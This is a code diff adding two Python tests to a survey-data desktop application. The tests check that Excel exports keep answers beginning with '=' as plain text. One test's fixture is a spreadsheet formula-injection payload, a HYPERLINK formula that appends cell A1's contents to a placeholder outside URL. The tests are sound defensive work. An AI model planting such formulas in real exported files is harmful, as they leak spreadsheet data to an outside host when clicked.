@@ -183,3 +183,40 @@ def test_geopoints_split_and_multiple_choices_as_0_1_columns(tmp_path) -> None:
     first = dict(zip(header, rows[1], strict=False))  # openpyxl drops trailing empty cells
     assert first["_where_latitude"] == 37.5 and first["_where_precision"] == 5.0
     assert first["uses/rail"] == 1 and first["_submission__uuid"] == "s1"
+
+
+@pytest.mark.parametrize("layout", ["flat", "kobo"])
+def test_answers_starting_with_equals_stay_text_in_xlsx(tmp_path, layout: str) -> None:
+    """A text answer from a package must never become a formula in the analyst's Excel."""
+    from neascn_desktop.reports.layout_export import write_layout
+    from neascn_desktop.surveys.definition import definition_from_dict
+
+    definition = definition_from_dict({
+        "format": 2, "form_id": "f", "version": "1", "title": {"en": "F"},
+        "children": [{"name": "note", "type": "text", "label": {"en": "Note"}},
+                     {"name": "r", "type": "repeat", "label": {"en": "R"}, "children": [
+                         {"name": "t", "type": "text", "label": {"en": "T"}}]}],
+    })
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    payload = {"answers": {"note": evil, "r": [
+        {"@id": "0f8e1c3a-6b7d-4c55-9a43-2b1d07d2a0c1", "t": evil, "odd": {"x": 1}}]}}
+    out = tmp_path / "f.xlsx"
+    write_layout(definition, lambda: [("s", payload)], out, "xlsx", layout)
+    book = load_workbook(out)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
+             if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_the_flat_export_of_a_form_without_repeats_keeps_formulas_out_too(tmp_path) -> None:
+    from neascn_desktop.reports.data_export import write_xlsx
+    from neascn_desktop.surveys.definition import load_definition
+
+    from ..surveys.conftest import MINI
+
+    definition = load_definition(MINI)
+    payload = {"answers": {"officer": "=1+1"}}
+    write_xlsx(definition, [("s", payload)], tmp_path / "m.xlsx")
+    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[0]
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == "=1+1")
+    assert cell.data_type == "s"
